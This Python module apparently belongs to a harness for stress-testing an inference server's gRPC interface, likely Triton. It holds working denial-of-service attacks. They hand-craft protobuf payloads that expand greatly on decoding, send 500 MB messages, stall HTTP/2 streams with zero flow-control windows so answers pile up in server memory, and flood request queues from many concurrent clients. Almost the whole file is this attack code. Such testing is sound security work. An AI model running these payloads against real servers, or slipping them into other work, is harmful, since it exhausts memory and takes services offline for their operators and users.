"""gRPC messages that grow when they are decoded, streams that are read ahead, answers that are not read."""

import json
import time

import grpc
import numpy as np
import raw_http
import raw_http2
from raw_http2 import Connection
from tritonclient.grpc import service_pb2

import models
from registry import attack

OPTIONS = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
# Field numbers of ModelInferRequest and of its parts, as the tags of fields of no bytes.
EMPTY = {"parameters": 4, "inputs": 5, "outputs": 6, "raw_input_contents": 7}


def unary(target, method, payload, timeout=60):
    """The code that a raw message is answered with."""
    with grpc.insecure_channel(target.server.grpc, options=OPTIONS) as channel:
        try:
            channel.unary_unary(raw_http2.SERVICE + method)(payload, timeout=timeout)
        except grpc.RpcError as error:
            return error.code().name
    return "OK"


def named(model):
    return service_pb2.ModelInferRequest(model_name=model).SerializeToString()


def empty_fields(field, megabytes):
    """A message of so many MB that says of one repeated field nothing but that it is there."""
    return named("vector") + bytes([field << 3 | 2, 0]) * (megabytes * 500_000)


def amplified(target, payload, clients=2):
    codes = raw_http.together(clients, lambda _: unary(target, "ModelInfer", payload), 2)
    return raw_http.statuses(codes)


@attack("grpc-empty-inputs", triton=True)
def empty_inputs(target):
    """40 MB of empty inputs, two bytes each"""
    return amplified(target, empty_fields(EMPTY["inputs"], 40))


@attack("grpc-empty-outputs")
def empty_outputs(target):
    """40 MB of empty requested outputs, two bytes each"""
    return amplified(target, empty_fields(EMPTY["outputs"], 40))


@attack("grpc-empty-raw")
def empty_raw(target):
    """40 MB of empty raw contents, two bytes each"""
    return amplified(target, empty_fields(EMPTY["raw_input_contents"], 40))


@attack("grpc-parameters")
def parameters(target):
    """30 MB of parameters with names of four letters"""
    request = bytearray(named("vector"))
    for number in range(2_000_000):
        request += b"\x22\x0a\x0a\x04" + b"%04x" % (number % 65536) + b"\x12\x02\x10" + bytes([number % 128])
    return amplified(target, bytes(request))


@attack("grpc-contents")
def contents(target):
    """40 MB of numbers of one byte that become eight, and of empty strings"""
    packed = b"\x01" * 20_000_000
    numbers = b"\x1a" + raw_varint(len(packed)) + packed
    strings = b"\x42\x00" * 10_000_000
    tensor = b"\x0a\x06INPUT0\x12\x04FP32"
    both = [tensor + b"\x2a" + raw_varint(len(body)) + body for body in (numbers, strings)]
    payload = named("vector") + b"".join(b"\x2a" + raw_varint(len(one)) + one for one in both)
    return amplified(target, payload)


def raw_varint(number):
    out = bytearray()
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    return bytes([*out, number])


@attack("grpc-shape")
def shape(target):
    """40 MB of dimensions, one byte each"""
    packed = b"\x01" * 40_000_000
    tensor = b"\x0a\x06INPUT0\x12\x04FP32\x1a" + raw_varint(len(packed)) + packed
    return amplified(target, named("vector") + b"\x2a" + raw_varint(len(tensor)) + tensor)


@attack("grpc-2gb-message", triton=True)
def long_message(target):
    """four messages of 500 MB"""
    payload = named("vector") + b"\x3a" + raw_varint(500_000_000) + bytes(500_000_000)
    codes = raw_http.together(4, lambda _: unary(target, "ModelInfer", payload))
    return raw_http.statuses(codes)


@attack("grpc-40mb-tensors", triton=True)
def large_tensors(target):
    """ten clients with tensors of 40 MB"""
    payload = infer("vector", np.zeros(10_000_000, np.float32))
    codes = raw_http.together(10, lambda _: unary(target, "ModelInfer", payload), 4)
    return raw_http.statuses(codes)


def infer(model, array):
    request = service_pb2.ModelInferRequest(model_name=model)
    request.inputs.add(name="INPUT0", datatype="FP32", shape=array.shape)
    request.raw_input_contents.append(array.tobytes())
    return request.SerializeToString()


@attack("grpc-classification")
def classification(target):
    """ten clients that want a tensor of 40 MB classified, ten million classes"""
    request = service_pb2.ModelInferRequest.FromString(infer("vector", np.zeros(10_000_000, np.float32)))
    request.outputs.add(name="OUTPUT0").parameters["classification"].int64_param = 10_000_000
    payload = request.SerializeToString()
    codes = raw_http.together(10, lambda _: unary(target, "ModelInfer", payload), 4)
    return raw_http.statuses(codes)


@attack("grpc-repository-index", models=models.many)
def repository_index(target):
    """ten clients list a repository of 3,000 models"""
    return raw_http.statuses(raw_http.together(10, lambda _: unary(target, "RepositoryIndex", b""), 4))


def streamed(target, payload, megabytes, window, streams=1):
    """Sends copies of a request on streams whose answers wait for a window; bytes taken before nothing moved."""
    one = raw_http2.message(payload)
    batch = one * max(1, 1_000_000 // len(one))
    connection = Connection(target.grpc, initial_window=window)
    time.sleep(0.3)
    taken = 0
    for number in range(streams):
        connection.open(2 * number + 1, "ModelStreamInfer")
        for _ in range(megabytes * 1_000_000 // streams // len(batch)):
            sent = connection.send_data(2 * number + 1, batch)
            taken += sent
            if sent < len(batch):
                break
    return connection, taken


@attack("stream-read-ahead", triton=True)
def stream_read_ahead(target):
    """64 MB of tiny requests on a stream whose answers are not read"""
    connection, taken = streamed(target, infer("vector", np.zeros(1, np.float32)), 64, 0)
    time.sleep(2)
    ended = "ended by the server" if connection.closed else "open"
    connection.close()
    return f"{taken / 1e6:.1f} MB of requests were read, the connection is {ended}"


@attack("stream-read-ahead-slow")
def stream_read_ahead_slow(target):
    """64 MB of tiny requests on a stream to a slow model"""
    connection, taken = streamed(target, infer("slow", np.zeros(1, np.float32)), 64, 1 << 30)
    time.sleep(2)
    connection.close()
    return f"{taken / 1e6:.1f} MB of requests were read"


@attack("stream-read-ahead-many")
def stream_read_ahead_many(target):
    """the same on 100 streams of ten connections"""

    def run(_):
        connection, taken = streamed(target, infer("vector", np.zeros(1, np.float32)), 40, 0, streams=10)
        return connection, taken

    done = raw_http.together(10, run)
    time.sleep(2)
    for connection, _ in done:
        connection.close()
    return f"{sum(taken for _, taken in done) / 1e6:.1f} MB of requests were read"


@attack("stream-large-read-ahead")
def stream_large(target):
    """2.4 GB of requests of 4 MB on a stream whose answers are not read"""
    connection, taken = streamed(target, infer("vector", np.zeros(1_000_000, np.float32)), 2400, 0)
    time.sleep(2)
    connection.close()
    return f"{taken / 1e6:.1f} MB of requests were read"


@attack("unread-answers-grpc", models=models.many_answers, loads=("many_answers",))
def unread_answers(target):
    """a stream of 2.5 GB from a decoupled model, by a client whose window is shut"""
    request = service_pb2.ModelInferRequest(model_name="many_answers")
    for name, value in (("COUNT", 2500), ("SIZE", 1_000_000)):
        request.inputs.add(name=name, datatype="INT32", shape=[1])
        request.raw_input_contents.append(np.array([value], np.int32).tobytes())
    connection, _ = streamed(target, request.SerializeToString(), 0, 0)
    connection.send_data(1, raw_http2.message(request.SerializeToString()))
    time.sleep(10)
    ended = "ended by the server" if connection.closed else "open"
    connection.close()
    return f"the connection is {ended}"


@attack("repeat-flood", triton=True)
def repeat_flood(target):
    """a stream of two million answers from one request, by a client whose window is shut"""
    count = 2_000_000
    request = service_pb2.ModelInferRequest(model_name="repeat")
    for name, kind, values in (("IN", "INT32", count), ("DELAY", "UINT32", count), ("WAIT", "UINT32", 1)):
        request.inputs.add(name=name, datatype=kind, shape=[values])
        request.raw_input_contents.append(bytes(4 * values))
    connection, _ = streamed(target, b"", 0, 0)
    taken = connection.send_data(1, raw_http2.message(request.SerializeToString()))
    time.sleep(8)
    connection.close()
    return f"{taken / 1e6:.1f} MB sent"


@attack("queue-flood-grpc", triton=True)
def queue_flood(target):
    """5,000 calls of 100 KB wait for a slow model, on ten connections"""
    payload = raw_http2.message(infer("slow", np.zeros(25_000, np.float32)))

    def run(_):
        connection, taken = Connection(target.grpc), 0
        time.sleep(0.3)
        for number in range(500):
            stream = 2 * number + 1
            connection.open(stream, "ModelInfer")
            taken += connection.send_data(stream, payload, 1)
            connection.send(raw_http2.frame(raw_http2.DATA, raw_http2.END_STREAM, stream))
        return connection, taken

    done = raw_http.together(10, run)
    time.sleep(2)
    for connection, _ in done:
        connection.close()
    return f"{sum(taken for _, taken in done) / 1e6:.0f} MB sent"


@attack("grpc-load-claims")
def load_claims(target):
    """30 MB of load parameters"""
    request = service_pb2.RepositoryModelLoadRequest(model_name="vector")
    for number in range(500_000):
        request.parameters[f"file:{number}"].bytes_param = b""
    request.parameters["config"].string_param = json.dumps({"name": "vector"})
    payload = request.SerializeToString()
    return raw_http.statuses(raw_http.together(2, lambda _: unary(target, "RepositoryModelLoad", payload), 1))
